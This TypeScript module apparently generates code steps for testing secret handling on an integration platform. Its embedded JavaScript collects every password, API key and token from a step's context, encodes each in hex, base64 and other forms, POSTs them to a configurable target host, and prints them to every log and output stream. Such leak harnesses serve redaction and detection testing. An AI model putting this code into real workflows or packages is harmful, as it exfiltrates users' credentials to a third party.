/** JavaScript functions that find all secrets in a context, give a text in many forms, and spill. */
const FUNCTIONS = `
const isSecret = (name) => /password|apiKey|secret|token/i.test(name);
const texts = (values) => Object.entries(values ?? {}).filter(([name, value]) => isSecret(name) && typeof value === 'string' && value);
const secretsOf = ({ configVars, webhookApiKeys }) => [
  ...texts(configVars),
  ...Object.values(configVars).flatMap((value) => value?.fields ? [...texts(value.fields), ...texts(value.token)] : []),
  ...Object.values(webhookApiKeys ?? {}).flat().map((key) => ['key', key]),
].map(([, secret]) => secret);
const formsOf = (text) => {
  const hex = Buffer.from(text).toString('hex');
  return [text, encodeURIComponent(text), JSON.stringify(text), hex, hex.toUpperCase(),
    ...['', 'a', 'ab'].flatMap((before) =>
      ['base64', 'base64url'].map((form) => Buffer.from(before + text).toString(form)))];
};
/** Tells the third party what came to hand here, logs it in every way, and gives it. */
const spill = async (context, kind) => {
  const all = secretsOf(context);
  const { configVars, logger } = context;
  await fetch(configVars.Target + '/spilled/' + encodeURIComponent(kind),
    { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(all) });
  for (const log of [console.log, console.error, (...it) => logger.warn(...it)]) {
    log(configVars, JSON.stringify(configVars), require('node:util').inspect(configVars, { depth: null }));
    for (const secret of all) for (const form of formsOf(secret)) log('it is ' + form + '!');
  }
  process.stdout.write(all.join() + '\\n');
  process.stderr.write(all.join() + '\\n');
  return all;
};`;

/** The functions, and code behind them. */
export const withFunctions = (code: string): string => `${FUNCTIONS}\n${code}`;

/** The text of a code step that has all secrets in `all`. */
export const script = (body: string): string =>
  withFunctions(`module.exports = async (context, { trigger } = {}) => {
  const { configVars, logger } = context;
  const all = secretsOf(context);
  ${body}
};`);

/** One that spills, and returns or throws all that it has. */
export const spilling = (kind: string, end: 'return' | 'throw' = 'return'): string =>
  script(`await spill(context, '${kind}');
  ${end === 'return' ? 'return { data: { all, forms: all.flatMap(formsOf) } };' : "throw new Error('failed with ' + [...all, ...all.flatMap(formsOf)].join(' and '));"}`);
